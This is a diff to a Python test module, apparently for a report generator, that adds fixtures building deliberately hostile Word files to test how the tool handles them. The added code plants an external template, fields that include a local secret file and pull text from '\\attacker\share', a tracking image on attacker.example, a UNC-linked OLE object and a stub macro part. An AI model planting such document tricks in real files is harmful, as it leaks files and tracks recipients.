@@ -251,6 +251,115 @@ def docx_with_entity(setting: Setting, path: str) -> None:
     _target(setting, path).write_bytes(out.getvalue())
 
 
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+_HEADER = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<w:hdr xmlns:w="{_W}" xmlns:r="{_REL}"
+ xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:p>
+<w:r><w:t xml:space="preserve">Letterhead </w:t></w:r>
+<w:r><w:fldChar w:fldCharType="begin"/></w:r>
+<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "{{secret}}" \\d </w:instrText></w:r>
+<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>picture</w:t></w:r>
+<w:r><w:fldChar w:fldCharType="end"/></w:r>
+<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\attacker\\share\\x.docx&quot; "><w:r><w:t>text</w:t></w:r></w:fldSimple>
+<w:r><w:drawing><a:blip r:link="rIdLinked"/></w:drawing></w:r>
+<w:hyperlink r:id="rIdWeb"><w:r><w:t>www.city.example</w:t></w:r></w:hyperlink>
+</w:p></w:hdr>"""
+
+
+def _rels(*items: tuple[str, str, str, bool]) -> str:
+    rows = "".join(
+        f'<Relationship Id="{ident}" Type="{_REL}/{kind}" Target="{target}"'
+        + (' TargetMode="External"' if external else "")
+        + "/>"
+        for ident, kind, target, external in items
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{rows}</Relationships>"
+    )
+
+
+def docx_active(setting: Setting, path: str) -> None:
+    """The bundled reference with what fetches or runs: an attached template outside, a
+    header that includes the secret (INCLUDEPICTURE, INCLUDETEXT) and links a picture
+    from the web, an OLE object on a UNC path, and macros (vbaProject.bin)."""
+    from reportgen.renderers.docx import bundled_reference
+
+    secret = setting.secret.as_uri()
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(bundled_reference())) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for entry in source.infolist():
+            text = source.read(entry.filename).decode("utf-8")
+            if entry.filename == "word/settings.xml":
+                text = text.replace(
+                    f'xmlns:w="{_W}">', f'xmlns:w="{_W}" xmlns:r="{_REL}"><w:attachedTemplate r:id="rIdT"/>'
+                )
+            elif entry.filename == "word/document.xml":
+                text = text.replace(
+                    "<w:sectPr>",
+                    f'<w:sectPr xmlns:r="{_REL}"><w:headerReference w:type="default" r:id="rIdH"/>',
+                )
+            elif entry.filename == "word/_rels/document.xml.rels":
+                text = text.replace(
+                    "</Relationships>",
+                    f'<Relationship Id="rIdH" Type="{_REL}/header" Target="header1.xml"/>'
+                    f'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
+                    'relationships/vbaProject" Target="vbaProject.bin"/>'
+                    f'<Relationship Id="rIdO" Type="{_REL}/oleObject" '
+                    'Target="\\\\attacker\\share\\o.bin" TargetMode="External"/>'
+                    "</Relationships>",
+                )
+            elif entry.filename == "[Content_Types].xml":
+                text = text.replace(
+                    "</Types>",
+                    '<Override PartName="/word/header1.xml" ContentType="application/'
+                    'vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'
+                    '<Override PartName="/word/vbaProject.bin" '
+                    'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+                )
+            target.writestr(entry.filename, text)
+        target.writestr(
+            "word/_rels/settings.xml.rels", _rels(("rIdT", "attachedTemplate", secret, True))
+        )
+        target.writestr("word/header1.xml", _HEADER.replace("{secret}", secret))
+        target.writestr(
+            "word/_rels/header1.xml.rels",
+            _rels(
+                ("rIdLinked", "image", "https://attacker.example/track.png", True),
+                ("rIdWeb", "hyperlink", "https://www.city.example/", True),
+            ),
+        )
+        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
+    _target(setting, path).write_bytes(out.getvalue())
+
+
+def docx_style_circle(setting: Setting, path: str) -> None:
+    """The bundled reference with two styles based on each other."""
+    from reportgen.renderers.docx import bundled_reference
+
+    circle = (
+        '<w:style w:type="paragraph" w:styleId="LoopA"><w:name w:val="Loop A"/>'
+        '<w:basedOn w:val="LoopB"/></w:style><w:style w:type="paragraph" w:styleId="LoopB">'
+        '<w:name w:val="Loop B"/><w:basedOn w:val="LoopA"/></w:style></w:styles>'
+    )
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(bundled_reference())) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for entry in source.infolist():
+            data = source.read(entry.filename)
+            if entry.filename == "word/styles.xml":
+                data = data.decode("utf-8").replace("</w:styles>", circle).encode("utf-8")
+            target.writestr(entry.filename, data)
+    _target(setting, path).write_bytes(out.getvalue())
+
+
 # --- helpers --------------------------------------------------------------------------------
 
 
@@ -294,6 +403,8 @@ SETUPS: dict[str, Callable[..., None]] = {
         zip_entries,
         bundled_docx,
         docx_with_entity,
+        docx_active,
+        docx_style_circle,
     )
 }
 
